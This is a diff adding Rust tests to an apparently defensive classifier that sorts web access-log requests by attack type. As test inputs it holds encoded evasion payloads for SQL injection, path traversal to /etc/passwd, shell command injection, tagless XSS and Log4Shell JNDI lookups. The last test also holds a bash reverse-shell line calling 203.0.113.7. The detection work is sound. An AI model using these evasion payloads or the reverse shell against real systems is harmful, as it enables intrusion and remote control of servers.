@@ -309,3 +309,98 @@ fn outcome_follows_status_and_successful_logins() {
     ssh.push("Nov 12 09:20:09 web01 sshd[2230]: Accepted password for root from 185.220.101.4 port 51130 ssh2".into());
     assert_eq!(outcome(&ssh.join("\n")), Outcome::Succeeded);
 }
+
+#[test]
+fn evasions_are_read_as_the_server_reads_them() {
+    let cases: &[(&str, Class)] = &[
+        // Zero-width characters inside keywords.
+        (
+            "/p?id=1%27%20un%e2%80%8bion%20se%e2%80%8blect%201,2--",
+            Class::Sqli,
+        ),
+        // MySQL versioned comments run their text.
+        ("/p?id=1%20/*!50000union*/%20/*!select*/%201,2", Class::Sqli),
+        // Overlong UTF-8 slashes and spaces.
+        (
+            "/d?f=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
+            Class::PathTraversal,
+        ),
+        ("/d?f=%3Bcat%c0%a0%2Fetc%2Fhosts", Class::CommandInjection),
+        // Shell: unset variables, brace lists, globs.
+        (
+            "/d?f=%3Bcat%24u%20%2Fetc%24u%2Fpasswd%24u",
+            Class::CommandInjection,
+        ),
+        ("/d?f=%3B%7Bcat,%2Fetc%2Fpasswd%7D", Class::CommandInjection),
+        (
+            "/d?f=%3Bcat%20%2Fe%3F%3F%2Fpa%3F%3Fwd",
+            Class::FileInclusion,
+        ),
+        ("/d?f=%3B%2F%3F%3F%3F%2Fc%3Ft%20x", Class::CommandInjection),
+        // A command in the path.
+        ("/cgi-bin/%3Bcat%20%2Fetc%2Fpasswd", Class::CommandInjection),
+        // Script without a tag.
+        ("/q?c=(alert)(1)", Class::Xss),
+        ("/q?c=confirm.call(null,1)", Class::Xss),
+        ("/q?c=%5B%5D.sort.call%60%24%7Balert%7D1%60", Class::Xss),
+        ("/q?c=al%5Cu0065rt(1)", Class::Xss),
+        ("/q?u=j%09ava%0Ascript:x()", Class::Xss),
+        // Log4Shell with nested lookups; PHP's echo tag.
+        (
+            "/q?x=%24%7B%24%7B%3A%3A-j%7Dndi%3Aldap%3A%2F%2Fa%7D",
+            Class::CommandInjection,
+        ),
+        ("/q?x=%3C%3F%3D%60id%60%3B", Class::CommandInjection),
+        // A base64 value.
+        ("/q?file=L2V0Yy9wYXNzd2Q=", Class::FileInclusion),
+    ];
+    for (target, class) in cases {
+        let line = access(target, BROWSER);
+        assert!(
+            classes(&line).contains(class),
+            "{target}: {:?}",
+            classes(&line)
+        );
+    }
+}
+
+#[test]
+fn evasion_decoding_leaves_ordinary_requests_alone() {
+    let targets = [
+        "/search?q=caf%C3%A9+au+lait",
+        "/api/items?token=dXNlcjoxMjM0NTY3ODkw",
+        "/files?glob=*.png&dir=/images",
+        "/weather?location=London&units=metric",
+        "/shop;jsessionid=ABC123?id=4",
+        "/price?total=%2450&tip=%245",
+        "/docs/alert-settings?confirm=yes",
+    ];
+    for t in targets {
+        let line = access(t, BROWSER);
+        assert!(fast(&line), "{t}: {:?}", Triage::builtin().assess(&line));
+    }
+}
+
+#[test]
+fn libinjection_alone_yields_to_a_rule() {
+    // A quoted event handler: libinjection also calls it SQL; the rules say script.
+    let a = Triage::builtin().assess(&access(
+        "/q?p=a%22%2F%2FOnx%3D%22%22%2F%2Fonfocus%3Dprompt%281%29%3E",
+        BROWSER,
+    ));
+    let Route::Model(b) = a.route else {
+        panic!("{a:?}")
+    };
+    assert_eq!(b.categories, Some(vec!["XSS"]), "{:?}", a.signals);
+}
+
+#[test]
+fn plain_text_without_signal_takes_the_fast_path() {
+    assert!(fast(
+        "2026-11-02 10:17:43,400 - WARN  [Election:ClusterPeer@412] - Timed out waiting for peer vote"
+    ));
+    // Plain text with a signal still goes to the model.
+    assert!(!fast(
+        "2026-11-02 10:17:43 app: running bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
+    ));
+}
